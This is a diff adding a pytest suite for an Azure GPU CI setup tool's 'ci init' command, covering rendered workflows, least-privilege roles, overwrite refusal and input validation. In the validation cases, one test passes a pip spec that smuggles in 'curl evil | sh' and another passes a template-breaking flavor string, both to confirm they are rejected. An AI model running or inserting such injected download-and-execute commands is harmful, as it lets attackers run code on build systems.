@@ -1,0 +1,129 @@
+"""`acagpu ci init`: rendered workflows, refusal to overwrite, validated values, the one-time az steps."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from aca_gpu.cli import cli
+from aca_gpu.errors import BadInput
+from aca_gpu.workflow import ci_init
+
+SUB = "11111111-2222-3333-4444-555555555555"
+TENANT = "66666666-7777-8888-9999-000000000000"
+CLIENT = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
+BASE = ["ci", "init", "--subscription", SUB, "--tenant", TENANT, "--client-id", CLIENT, "-l", "westus3"]
+
+
+def invoke(repo: Path, *args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(cli, [*BASE, "--repo-dir", str(repo), *args])
+    return result.exit_code, result.stdout, result.stderr
+
+
+def test_writes_both_workflows_with_values_filled(tmp_path: Path) -> None:
+    code, out, _ = invoke(tmp_path, "--gpus", "t4,a100", "--github-repo", "example/gpu-ci", "--since", "12.4")
+    assert code == 0, out
+    validate = (tmp_path / ".github/workflows/acagpu-validate.yml").read_text(encoding="utf-8")
+    reap = (tmp_path / ".github/workflows/acagpu-reap.yml").read_text(encoding="utf-8")
+    for text in (validate, reap):
+        assert not re.search(r"__[A-Z_]+__", text), "a placeholder was left unfilled"
+        assert f"vars.AZURE_CLIENT_ID || '{CLIENT}'" in text
+        assert f"vars.AZURE_SUBSCRIPTION_ID || '{SUB}'" in text
+        assert "id-token: write" in text
+    assert 'gpu: ["t4", "a100"]' in validate
+    assert "ACAGPU_LOCATION: westus3" in validate
+    assert 'default: "12.4"' in validate
+    assert "fromJSON(needs.discover.outputs.tags)" in validate
+    assert "vars.ACAGPU_REAP_DELETE" in reap
+    role = json.loads((tmp_path / ".github/acagpu-role.json").read_text(encoding="utf-8"))
+    assert role["AssignableScopes"] == [f"/subscriptions/{SUB}"]
+
+
+def test_prints_federated_credential_and_least_privilege_role(tmp_path: Path) -> None:
+    code, out, _ = invoke(tmp_path, "--github-repo", "example/gpu-ci", "--branch", "release")
+    assert code == 0
+    assert "az ad app federated-credential create --id " + CLIENT in out
+    assert '"subject": "repo:example/gpu-ci:ref:refs/heads/release"' in out
+    assert '"audiences": ["api://AzureADTokenExchange"]' in out
+    assert 'az role assignment create --role "acagpu runner"' in out
+    assert "Contributor" not in out
+    role = ci_init.role_definition(SUB)
+    assert all(a.startswith(("Microsoft.App/", "Microsoft.Resources/")) for a in role["Actions"])
+    assert "*" not in role["Actions"]
+
+
+def test_json_output_is_one_document(tmp_path: Path) -> None:
+    code, out, _ = invoke(tmp_path, "--github-repo", "example/gpu-ci", "-o", "json")
+    assert code == 0
+    doc = json.loads(out)
+    assert doc["kind"] == "ci-init" and len(doc["written"]) == 3
+    assert any(c.startswith("az role definition create") for c in doc["commands"])
+
+
+def test_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
+    assert invoke(tmp_path, "--gpus", "t4")[0] == 0
+    target = tmp_path / ".github/workflows/acagpu-validate.yml"
+    target.write_text("# edited by hand\n", encoding="utf-8")
+    code, _, err = invoke(tmp_path, "--gpus", "a100")
+    assert code == 2 and "already exist" in err and "--force" in err
+    assert target.read_text(encoding="utf-8") == "# edited by hand\n"
+    code, _, _ = invoke(tmp_path, "--gpus", "a100", "--force")
+    assert code == 0 and 'gpu: ["a100"]' in target.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (("--gpus", "h100"), "unknown GPU"),
+        (("--gpus", ","), "at least one GPU"),
+        (("--since", "12.x"), "invalid CUDA version"),
+        (("--repository", "nvidia/cuda:12.1.1-runtime-ubuntu22.04"), "without a tag"),
+        (("--pip-spec", "acagpu; curl evil | sh"), "invalid --pip-spec"),
+        (("--flavor", "runtime'}}"), "invalid flavor"),
+        (("--github-repo", "not a slug"), "invalid GitHub repository"),
+        (("--limit", "0"), "at least 1"),
+    ],
+)
+def test_bad_values_exit_2_and_write_nothing(tmp_path: Path, args: tuple[str, ...], message: str) -> None:
+    code, _, err = invoke(tmp_path, *args)
+    assert code == 2 and message in err
+    assert not (tmp_path / ".github").exists()
+
+
+def test_ids_must_be_guids(tmp_path: Path) -> None:
+    result = CliRunner().invoke(
+        cli, ["ci", "init", "--repo-dir", str(tmp_path), "--subscription", "my-sub", "--tenant", TENANT,
+              "--client-id", CLIENT, "-l", "westus3"]
+    )  # fmt: skip
+    assert result.exit_code == 2 and "expected a GUID" in result.stderr
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "git@github.com:example/gpu-ci.git",
+        "https://github.com/example/gpu-ci",
+        "https://github.com/example/gpu-ci.git",
+    ],
+)
+def test_github_repo_comes_from_the_origin_remote(tmp_path: Path, url: str) -> None:
+    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
+    subprocess.run(["git", "-C", str(tmp_path), "remote", "add", "origin", url], check=True)
+    assert ci_init.github_repo_of(tmp_path) == "example/gpu-ci"
+
+
+def test_without_a_remote_the_commands_say_what_to_fill(tmp_path: Path) -> None:
+    code, out, _ = invoke(tmp_path)
+    assert code == 0
+    assert "repo:<owner>/<repo>:ref:refs/heads/main" in out and "--github-repo" in out
+
+
+def test_render_refuses_unknown_placeholders() -> None:
+    with pytest.raises(BadInput, match="NEW_THING"):
+        ci_init.render("a: __LOCATION__\nb: __NEW_THING__\n", {"LOCATION": "westus3"})
+    assert ci_init.render("a: __LOCATION__", {"LOCATION": "westus3"}) == "a: westus3"
